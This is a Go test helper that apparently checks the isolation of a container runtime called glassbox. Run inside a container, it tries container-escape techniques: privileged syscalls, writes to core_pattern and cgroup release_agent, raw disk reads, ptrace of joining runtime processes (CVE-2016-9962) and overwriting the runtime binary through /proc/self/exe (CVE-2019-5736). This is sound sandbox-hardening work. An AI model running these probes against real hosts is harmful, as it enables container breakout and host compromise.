package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// attackEnv names the attack that this test binary is, when it runs in a container.
const attackEnv = "GLASSBOX_ATTACK"

func init() {
	if name := os.Getenv(attackEnv); name != "" {
		runtime.LockOSThread()
		os.Exit(attack(name))
	}
}

// attack is what runs inside: it prints what it got at, and nothing if it got nowhere.
func attack(name string) int {
	f := map[string]func(){"calls": calls, "files": files, "watch": watch, "adopt": adopt, "overwrite": overwrite, "null": null}[name]
	if f == nil {
		return 99
	}
	f()
	return 0
}

// calls makes each system call that docker's profile or its capabilities refuse.
func calls() {
	sys := func(n uintptr, args ...uintptr) error {
		var a [6]uintptr
		copy(a[:], args)
		_, _, e := unix.Syscall6(n, a[0], a[1], a[2], a[3], a[4], a[5])
		if e != 0 {
			return e
		}
		return nil
	}
	p := func(s string) uintptr { b, _ := unix.BytePtrFromString(s); return uintptr(unsafe.Pointer(b)) }
	zero := make([]byte, 256)
	z := uintptr(unsafe.Pointer(&zero[0]))
	for _, c := range []struct {
		name string
		err  error
	}{
		{"mount", unix.Mount("x", "/tmp", "tmpfs", 0, "")},
		{"umount", unix.Unmount("/etc/hosts", 0)},
		{"remount", unix.Mount("", "/proc/sys", "", unix.MS_REMOUNT|unix.MS_BIND, "")},
		{"unshare(NEWUSER)", unix.Unshare(unix.CLONE_NEWUSER)},
		{"unshare(NEWNS)", unix.Unshare(unix.CLONE_NEWNS)},
		{"open_tree", sys(unix.SYS_OPEN_TREE, uintptr(0xffffffffffffff9c), p("/"), 1)},
		{"fsopen", sys(unix.SYS_FSOPEN, p("tmpfs"), 0)},
		{"setns", func() error {
			fd, err := unix.Open("/proc/1/ns/net", unix.O_RDONLY, 0)
			if err != nil {
				return err
			}
			return unix.Setns(fd, unix.CLONE_NEWNET)
		}()},
		{"sethostname", unix.Sethostname([]byte("owned"))},
		{"open_by_handle_at (Shocker)", sys(unix.SYS_OPEN_BY_HANDLE_AT, 0, z, 0)},
		{"keyctl", sys(unix.SYS_KEYCTL, unix.KEYCTL_DESCRIBE, uintptr(0xfffffffd), 0, 0)},
		{"add_key", sys(unix.SYS_ADD_KEY, p("user"), p("a"), z, 1, uintptr(0xfffffffd))},
		{"bpf", sys(unix.SYS_BPF, unix.BPF_MAP_CREATE, z, 72)},
		{"perf_event_open", sys(unix.SYS_PERF_EVENT_OPEN, z, 0, 0, ^uintptr(0), 0)},
		{"userfaultfd", sys(unix.SYS_USERFAULTFD, 0)},
		{"io_uring_setup", sys(unix.SYS_IO_URING_SETUP, 1, z)},
		{"init_module", sys(unix.SYS_INIT_MODULE, z, 0, p(""))},
		{"kexec_load", sys(unix.SYS_KEXEC_LOAD, 0, 0, 0, 0)},
		{"reboot", sys(unix.SYS_REBOOT, 0, 0, 0, 0)},
		{"settimeofday", sys(unix.SYS_SETTIMEOFDAY, z, 0)},
		{"swapon", sys(unix.SYS_SWAPON, p("/bin/busybox"), 0)},
		{"pivot_root", unix.PivotRoot("/", "/tmp")},
		{"syslog", func() error { _, err := unix.Klogctl(unix.SYSLOG_ACTION_READ_ALL, zero); return err }()},
		{"socket(AF_VSOCK)", func() error { _, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0); return err }()},
		{"ptrace(ATTACH, 1)", unix.PtraceAttach(1)},
		{"nice(-10)", unix.Setpriority(unix.PRIO_PROCESS, 0, -10)},
		{"mknod of a disk, and read it", disk()},
	} {
		if c.err == nil {
			fmt.Println("it can", c.name)
		}
	}
}

// disk makes a node for every block device there is, and reads one byte of it.
func disk() error {
	b, err := os.ReadFile("/proc/partitions")
	if err != nil {
		return err
	}
	last := errors.New("no disks")
	for line := range strings.Lines(string(b)) {
		var major, minor uint32
		if n, _ := fmt.Sscanf(line, "%d %d", &major, &minor); n != 2 {
			continue
		}
		p := fmt.Sprintf("/tmp/disk%d-%d", major, minor)
		if last = unix.Mknod(p, unix.S_IFBLK|0o600, int(unix.Mkdev(major, minor))); last != nil {
			continue
		}
		var fd int
		if fd, last = unix.Open(p, unix.O_RDONLY, 0); last == nil {
			_, last = unix.Read(fd, make([]byte, 1))
		}
		if last == nil {
			return nil
		}
	}
	return last
}

// files opens for writing what reaches the host, and reads what is masked.
func files() {
	var list []string
	for _, g := range []string{
		"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/fs/binfmt_misc/register", "/proc/sys/vm/panic_on_oom", "/proc/sysrq-trigger",
		"/proc/irq/*/smp_affinity", "/proc/bus/pci/*/*", "/proc/fs/*/*", "/sys/kernel/uevent_helper", "/sys/kernel/mm/*/*", "/sys/module/*/parameters/*",
		"/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/*/release_agent", "/sys/fs/cgroup/*/notify_on_release", "/sys/fs/cgroup/*/devices.allow",
		"/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/*/cgroup.procs", "/sys/fs/cgroup/*/*.max", "/sys/fs/cgroup/*.max", "/sys/class/*/*/uevent", "/sys/power/*",
	} {
		m, _ := filepath.Glob(g)
		list = append(list, m...)
	}
	for _, p := range list {
		if f, err := os.OpenFile(p, os.O_WRONLY, 0); err == nil {
			fmt.Println("it can write", p)
			_ = f.Close()
		}
	}
	maskedOnes := []string{
		"/proc/kcore", "/proc/keys", "/proc/latency_stats", "/proc/timer_list", "/proc/timer_stats", "/proc/sched_debug", "/proc/interrupts",
		"/proc/acpi", "/proc/asound", "/proc/scsi", "/sys/firmware", "/sys/devices/virtual/powercap",
	}
	perCPU, _ := filepath.Glob("/sys/devices/system/cpu/cpu*/thermal_throttle")
	for _, p := range slices.Concat(maskedOnes, perCPU) {
		st, err := os.Stat(p)
		if err != nil {
			continue
		}
		if st.IsDir() {
			if l, _ := os.ReadDir(p); len(l) > 0 {
				fmt.Println("it can list", p)
			}
		} else if b := make([]byte, 1); readOne(p, b) {
			fmt.Println("it can read", p)
		}
	}
}

func readOne(p string, b []byte) bool {
	f, err := os.Open(p)
	if err != nil {
		return false
	}
	defer f.Close()
	n, _ := f.Read(b)
	return n > 0
}

// watch waits for those who join, while they are still glassbox, and tries to get
// at their descriptors, their memory and their program (CVE-2016-9962).
func watch() {
	fmt.Println("ready")
	met := 0
	for {
		if _, err := os.Stat("/tmp/stop"); err == nil {
			break
		}
		list, _ := os.ReadDir("/proc")
		for _, d := range list {
			pid := 0
			if n, _ := fmt.Sscanf(d.Name(), "%d", &pid); n != 1 || pid == 1 {
				continue
			}
			if comm, _ := os.ReadFile("/proc/" + d.Name() + "/comm"); strings.TrimSpace(string(comm)) != "glassbox-init" {
				continue
			}
			met++
			peer(pid)
		}
	}
	report("met " + fmt.Sprint(met))
	end()
}

func peer(pid int) {
	dir := fmt.Sprintf("/proc/%d/", pid)
	l, _ := os.ReadDir(dir + "fd") // their numbers are no secret from the same user
	for _, d := range l {
		if to, err := os.Readlink(dir + "fd/" + d.Name()); err == nil {
			still(dir, "saw its descriptor "+to)
		}
	}
	if f, err := os.OpenFile(dir+"mem", os.O_RDWR, 0); err == nil {
		still(dir, "opened its memory")
		_ = f.Close()
	}
	if f, err := os.Open(dir + "exe"); err == nil {
		still(dir, "opened its program")
		_ = f.Close()
	}
	if fd, err := unix.PidfdOpen(pid, 0); err == nil {
		if _, err := unix.PidfdGetfd(fd, 3, 0); err == nil {
			still(dir, "took its socket")
		}
		_ = unix.Close(fd)
	}
	if err := unix.PtraceAttach(pid); err == nil {
		_, _ = unix.Wait4(pid, nil, unix.WALL, nil)
		still(dir, "traces it")
		_ = unix.PtraceDetach(pid)
		_ = unix.Kill(pid, unix.SIGCONT)
	}
}

// still reports it if the process has not become the program meanwhile.
func still(dir, what string) {
	if comm, _ := os.ReadFile(dir + "comm"); strings.TrimSpace(string(comm)) == "glassbox-init" {
		report(what)
	}
}

func report(what string) {
	f, err := os.OpenFile("/tmp/report", os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o644)
	if err == nil {
		fmt.Fprintln(f, what)
		_ = f.Close()
	}
}

// end says that nothing more is reported, and lives on: this is PID 1.
func end() {
	report("done")
	time.Sleep(time.Minute)
}

// overwrite tries to write to whatever program runs, glassbox among it (CVE-2019-5736).
func overwrite() {
	fmt.Println("ready")
	for {
		if _, err := os.Stat("/tmp/stop"); err == nil {
			end()
		}
		list, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, p := range append(list, "/proc/self/exe") {
			fd, err := unix.Open(p, unix.O_PATH, 0)
			if err != nil {
				continue
			}
			to, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd)) // of what is open: the link may have changed since
			if strings.Contains(to, "busybox") || strings.Contains(to, "attack") {
				_ = unix.Close(fd)
				continue
			}
			for range 50 { // while it runs it is busy: later it is not
				if w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY, 0); err == nil {
					report("wrote to " + to)
					_, _ = unix.Write(w, []byte("#!/bin/false\n"))
					_ = unix.Close(w)
				}
			}
			_ = unix.Close(fd)
		}
	}
}

// adopt changes its user, which clears PR_SET_PDEATHSIG, and lives on.
func adopt() {
	_ = unix.Setresgid(1000, 1000, 1000)
	_ = unix.Setresuid(1000, 1000, 1000)
	fmt.Println("ready")
	time.Sleep(10 * time.Minute)
}

// null changes the mode of whatever its standard streams are.
func null() {
	for fd := range 3 {
		_ = unix.Fchmod(fd, 0)
		_ = unix.Fchown(fd, 12345, 12345)
	}
}
